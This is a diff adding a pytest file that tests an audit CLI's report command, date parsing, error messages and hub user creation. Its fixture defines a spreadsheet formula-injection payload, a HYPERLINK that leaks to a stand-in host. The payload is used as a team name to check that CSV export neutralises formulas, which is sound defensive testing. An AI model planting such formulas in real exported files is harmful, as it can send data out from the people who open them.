@@ -1,0 +1,117 @@
+"""`auditui report` and `auditui hub add-user` as a user runs them (real processes).
+
+Hostile names from a hub never run in a spreadsheet (every CSV cell goes
+through ``export.cells``, as ``export csv``); a hub path of any length is one
+sentence and exit 1; a period is typed ISO or UK; the groupings by case
+type, kind and auditor; a personal login is printed once in its URL.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from sync_support import (
+    PgHub,
+    finished_audit,
+    make_config,
+    open_workspace,
+    subprocess_env,
+    write_config,
+)
+
+EVIL = '=HYPERLINK("http://example.invalid/?leak","Click")'
+
+
+def run(*args: str | Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "auditui", *map(str, args)],
+        capture_output=True,
+        text=True,
+        env=subprocess_env(),
+        timeout=120,
+    )
+
+
+@pytest.fixture
+def db(tmp_path: Path) -> Path:
+    """A local store with audits of two teams, one named like a formula, in two months."""
+    import datetime as dt
+
+    path = tmp_path / "a.db"
+    ws = open_workspace(path, make_config(tmp_path))
+    for n in range(2):
+        finished_audit(ws, f"CIN-{n}", "note", team=EVIL, ended_on=dt.date(2026, 2, 10 + n))
+    finished_audit(ws, "CIN-9", "note", team="North", ended_on=dt.date(2026, 3, 2))
+    finished_audit(ws, "CIN-8", "note", tool_id="childs-voice", team="North", finalise=False)
+    ws.close()
+    return path
+
+
+def _cli(tmp_path: Path, db: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    config = write_config(tmp_path / "config.toml", tmp_path / "hub-key")
+    return run("--db", db, "--config", config, *args)
+
+
+def test_report_csv_writes_every_cell_formula_safe(tmp_path: Path, db: Path) -> None:
+    done = _cli(tmp_path, db, "report", "--by", "team", "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    assert not any(line.startswith("=") or ",=" in line for line in done.stdout.splitlines())
+    rows = list(csv.DictReader(io.StringIO(done.stdout)))
+    assert [r["group"] for r in rows] == ["all", "'" + EVIL, "North"]
+    assert rows[0]["audits"] == "4"
+
+
+def test_a_hub_path_of_any_length_is_one_sentence(tmp_path: Path, db: Path) -> None:
+    for target in ("x" * 100_000, str(tmp_path / ("d" * 300) / "hub")):
+        done = _cli(tmp_path, db, "report", "--hub", target)
+        assert done.returncode == 1, done.stderr[:300]
+        assert "Traceback" not in done.stderr and len(done.stderr.splitlines()) == 1
+        assert len(done.stderr) < 400
+
+
+def test_a_period_typed_iso_or_uk_and_the_new_groupings(tmp_path: Path, db: Path) -> None:
+    def report(*args: str) -> dict[str, object]:
+        done = _cli(tmp_path, db, "report", "--format", "json", *args)
+        assert done.returncode == 0, done.stderr
+        result: dict[str, object] = json.loads(done.stdout)
+        return result
+
+    whole = report()
+    february = report("--from", "01/02/2026", "--to", "2026-02-28", "--by", "team")
+    assert whole["audits"] == 4 and february["audits"] == 2
+    assert (february["from"], february["to"]) == ("2026-02-01", "2026-02-28")
+    assert [g["group"] for g in february["groups"]] == [EVIL]  # type: ignore[attr-defined]
+    since = report("--from", "2026-03-01", "--by", "kind")
+    assert since["audits"] == 2 and since["to"] is None
+    by_type = report("--by", "case_type")
+    assert sum(g["audits"] for g in by_type["groups"]) == 4  # type: ignore[attr-defined]
+    by_auditor = report("--by", "auditor")
+    assert [g["audits"] for g in by_auditor["groups"]] == [4]  # type: ignore[index]
+    for bad in (("--from", "31/02/2026"), ("--from", "2026-03-01", "--to", "2026-02-01")):
+        refused = _cli(tmp_path, db, "report", *bad)
+        assert refused.returncode == 1 and len(refused.stderr.splitlines()) == 1, bad
+        assert "Traceback" not in refused.stderr
+
+
+@pytest.mark.postgres
+def test_hub_add_user_prints_the_login_url_once(tmp_path: Path, pg_hub: PgHub, db: Path) -> None:
+    import uuid
+
+    name = f"auditor_{uuid.uuid4().hex[:6]}"
+    done = _cli(tmp_path, db, "hub", "add-user", pg_hub.admin, name, "--role", "reader")
+    assert done.returncode == 0, done.stderr
+    url = done.stdout.splitlines()[-1]
+    assert url.startswith(f"postgresql://{name}:")
+    report = _cli(tmp_path, db, "report", "--hub", url, "--format", "json")
+    assert report.returncode == 0, report.stderr
+    again = _cli(tmp_path, db, "hub", "add-user", pg_hub.admin, name, "--role", "reader")
+    assert again.returncode == 1 and "already exists" in again.stderr
+    assert url.split(":")[2].split("@")[0] not in again.stderr
+    init = _cli(tmp_path, db, "hub", "init", pg_hub.admin)
+    assert init.returncode == 0 and "authenticates logins by" in init.stdout
